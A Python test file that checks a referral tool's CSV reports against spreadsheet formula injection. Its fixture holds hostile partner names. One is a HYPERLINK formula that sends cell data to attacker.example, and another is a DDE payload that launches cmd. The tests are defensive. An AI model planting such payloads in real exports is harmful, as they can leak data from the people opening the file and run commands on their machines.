"""CSV exports open safely in a spreadsheet: no live formulas, one line per row."""

from __future__ import annotations

import csv
import io

import pytest

from tests.agency import Agency
from tests.reports.scenario import refer

NOW = "2026-11-20T12:00:00Z"
FORMULA = '=HYPERLINK("https://attacker.example/?x="&A1,"Click for your reward")'
WIDE = "Northwind Mortgage and Home Lending Partners of the Greater Lakeshore Region LLC"


def partner(name: str) -> dict[str, object]:
    return {"kind": "partner", "external_id": None, "name": name, "partner_type": "Realtor"}


@pytest.fixture
def hostile(agency: Agency) -> Agency:
    names = [FORMULA, "+1-555-0100 call me", "@SUM(1+1)", "-12.5", "-2+3+cmd|' /C calc'!A0", WIDE]
    for n, name in enumerate(names, start=1):
        refer(agency, n, "HOME", partner(name), f"2026-11-0{n}T15:00:00Z")
    return agency


def test_formula_cells_are_neutralized_and_rows_never_wrap(hostile: Agency) -> None:
    out = hostile.run(
        "report", "sources", "--by", "referrer", "--from", "2026-10-01", "--format", "csv", now=NOW
    )
    lines = out.splitlines()
    rows = list(csv.reader(io.StringIO(out)))
    # One line per row: the header and six sources, however wide a row is.
    assert len(lines) == len(rows) == 7
    assert max(len(line) for line in lines) > 80
    sources = {row[0]: row for row in rows[1:]}
    assert set(sources) == {
        "'" + FORMULA,
        "'+1-555-0100 call me",
        "'@SUM(1+1)",
        "-12.5",  # a number stays a number
        "'-2+3+cmd|' /C calc'!A0",
        WIDE,
    }
    # Counts stay numbers, written as they were.
    assert sources[WIDE][1:4] == ["partner:realtor", "1", "0"]


def test_every_csv_report_goes_through_the_same_writer(hostile: Agency) -> None:
    for args in (
        ("report", "weekly", "--week", "2026-W45"),
        ("report", "funnel", "--from", "2026-10-01"),
        ("report", "roi", "--from", "2026-10-01"),
        ("report", "top-referrers", "--quarter", "2026-Q4"),
    ):
        out = hostile.run(*args, "--format", "csv", now=NOW)
        rows = list(csv.reader(io.StringIO(out)))
        assert len(rows) == len(out.splitlines()) >= 1, args
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row), args


def test_a_cell_starting_with_a_tab_or_return_is_neutralized_too() -> None:
    from referral_engine.reports.csv_out import write_csv

    stream = io.StringIO()
    write_csv(stream, [["\tcmd", "\r=1", -12.5, "+7", None, True]])
    assert list(csv.reader(io.StringIO(stream.getvalue(), newline=""))) == [
        ["'\tcmd", "'\r=1", "-12.5", "+7", "", "True"]
    ]
